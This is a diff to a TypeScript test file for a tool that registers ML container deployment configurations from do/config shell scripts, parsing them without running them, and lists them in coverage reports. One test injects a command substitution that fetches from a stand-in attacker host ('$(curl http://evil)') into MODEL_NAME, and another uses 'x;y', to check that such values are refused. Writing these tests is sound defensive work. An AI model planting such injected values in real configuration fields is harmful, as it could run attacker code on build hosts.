@@ -9,6 +9,12 @@ import {
 import { configJson, type CiRecord } from '../../src/results/record.js';
 import { selectByStatus } from '../../src/catalog/select-by-status.js';
 import { buildPlan } from '../../src/catalog/plan.js';
+import { buildCoverage } from '../../src/report/coverage.js';
+import { renderCoverageText } from '../../src/report/text.js';
+import { renderCoverageMarkdown } from '../../src/report/markdown.js';
+import { coverageJson } from '../../src/report/json.js';
+import { computeConfigId } from '../../src/catalog/config-id.js';
+import { parseDoConfig, registrationFromDoConfig } from '../../src/catalog/project-config.js';
 
 const catalog = loadCatalog('catalog/e2e-catalog.json');
 
@@ -192,5 +198,126 @@ describe('config-id', () => {
     await expect(entryForConfigId(source(records), catalog, 'rt-qwen3-4b')).rejects.toThrow(
       'config-id must be a configId: 16 lowercase hex characters',
     );
+  });
+});
+
+describe('register --from-project reads do/config without running it', () => {
+  /** lines of a do/config MCC 1.6.0 generated (ml-container-creator … --ic-env VLLM_MAX_MODEL_LEN=8192) */
+  const DO_CONFIG = [
+    '#!/bin/bash',
+    'export PROJECT_NAME="qwen-reg"',
+    'export DEPLOYMENT_CONFIG="transformers-vllm"',
+    'export AWS_REGION=${AWS_REGION:-us-west-2}',
+    'export DEPLOYMENT_TARGET="realtime-inference"',
+    'export INSTANCE_TYPE="ml.g5.2xlarge"',
+    'export IC_ENV_VLLM_MAX_MODEL_LEN=${IC_ENV_VLLM_MAX_MODEL_LEN:-8192}',
+    'export MODEL_NAME="Qwen/Qwen3-1.7B"',
+    'export BENCHMARK_S3_OUTPUT_PATH=""  # Resolved at runtime from profile (benchmarkS3Bucket)',
+    'export BASE_IMAGE=${BASE_IMAGE:-vllm/vllm-openai:v0.25.1}',
+    'export INSTANCE_TYPE=${INSTANCE_TYPE:-ml.g5.xlarge}',
+    'echo "⚙️  Configuration loaded"',
+  ].join('\n');
+
+  it('gives MCC’s configJson under the 5-field configId, and the entry the scan will run', () => {
+    const vars = parseDoConfig(DO_CONFIG);
+    expect(vars.get('INSTANCE_TYPE')).toBe('ml.g5.2xlarge');
+    expect(vars.get('BENCHMARK_S3_OUTPUT_PATH')).toBe('');
+    const registration = registrationFromDoConfig(vars);
+    expect(registration.configId).toBe(
+      computeConfigId({
+        deploymentConfig: 'transformers-vllm',
+        modelName: 'Qwen/Qwen3-1.7B',
+        instanceType: 'ml.g5.2xlarge',
+        region: 'us-west-2',
+        deploymentTarget: 'realtime-inference',
+      }),
+    );
+    expect(JSON.parse(registration.configJson)).toEqual({
+      projectName: 'qwen-reg',
+      deploymentConfig: 'transformers-vllm',
+      modelName: 'Qwen/Qwen3-1.7B',
+      instanceType: 'ml.g5.2xlarge',
+      awsRegion: 'us-west-2',
+      deploymentTarget: 'realtime-inference',
+      baseImage: 'vllm/vllm-openai:v0.25.1',
+      parameters: { IC_ENV_VLLM_MAX_MODEL_LEN: '8192' },
+    });
+    const conversion = convert(mccRecord(registration.configId, registration.configJson));
+    expect('entry' in conversion && conversion.entry.env).toEqual({ IC_ENV_VLLM_MAX_MODEL_LEN: '8192' });
+  });
+
+  it('a $(…) in do/config is kept literally, so the registration is refused with the reason', () => {
+    const registration = registrationFromDoConfig(
+      parseDoConfig(`${DO_CONFIG}\nexport MODEL_NAME="$(curl http://evil)"`),
+    );
+    const conversion = convert(mccRecord(registration.configId, registration.configJson));
+    expect('unusable' in conversion && conversion.unusable.reason).toMatch(
+      /^configJson\.modelName contains a quote or shell metacharacter/,
+    );
+  });
+});
+
+describe('reports show registered configurations in their own section', () => {
+  const reg = mccRecord('00000000000000a1', mccConfig(), {
+    testStatus: 'fail-test',
+    previousTestStatus: 'pass',
+    regression: true,
+    lastTestTimestamp: '2026-12-01T21:00:00Z',
+    lastTestDuration: 95,
+    tier: 'nightly',
+  });
+  const broken = mccRecord('00000000000000a2', mccConfig({ modelName: 'x;y' }));
+  const retired = { ...mccRecord('00000000000000a3'), e2eCatalogId: 'rt-removed', tier: 'ci' } as CiRecord;
+  const history = (status: string, at: string) => ({
+    configId: '00000000000000a1',
+    runTimestamp: at,
+    runId: at,
+    status,
+    durationSeconds: 90,
+    e2eCatalogId: 'qwen-reg',
+    tier: 'nightly',
+  });
+  const records = [reg, broken, retired];
+  const registered = registeredConfigs(records, catalog.entries);
+  const model = buildCoverage({
+    entries: catalog.entries,
+    records,
+    history: new Map([
+      [
+        '00000000000000a1',
+        [history('pass', '2026-11-30T21:00:00Z'), history('fail-test', '2026-12-01T21:00:00Z')],
+      ],
+    ]),
+    registered,
+    source: 'the test table',
+  });
+
+  it('with status, history and regressions; "not in catalog" keeps only the others', () => {
+    expect(model.registered.configs).toEqual([
+      expect.objectContaining({
+        id: 'qwen-reg',
+        configId: '00000000000000a1',
+        status: 'fail-test',
+        regression: true,
+        lastStatuses: ['pass', 'fail-test'],
+      }),
+    ]);
+    expect(model.registered.regressions).toEqual(['qwen-reg']);
+    expect(model.registered.unusable.map((u) => u.configId)).toEqual(['00000000000000a2']);
+    expect(model.notInCatalog.map((r) => r.configId)).toEqual(['00000000000000a3']);
+    expect(model.summary.total).toBe(catalog.entries.length);
+  });
+
+  it('in the text, Markdown and JSON reports', () => {
+    const text = renderCoverageText(model);
+    expect(text).toContain('Registered (1 configuration teams registered outside the catalog):');
+    expect(text).toMatch(
+      /nightly +qwen-reg +00000000000000a1 +Qwen\/Qwen3-1\.7B +fail-test {2}⚠️ REGRESSION/,
+    );
+    expect(text).toContain('00000000000000a2  configJson.modelName contains a quote or shell metacharacter');
+    const markdown = renderCoverageMarkdown(model, { fullReportAt: 'the artifact', maxBytes: 512 * 1024 });
+    expect(markdown).toContain('### Registered');
+    expect(markdown).toContain('> - **qwen-reg** — fail-test');
+    expect(coverageJson(model).registered.configs[0]).toMatchObject({ id: 'qwen-reg', status: 'fail-test' });
   });
 });
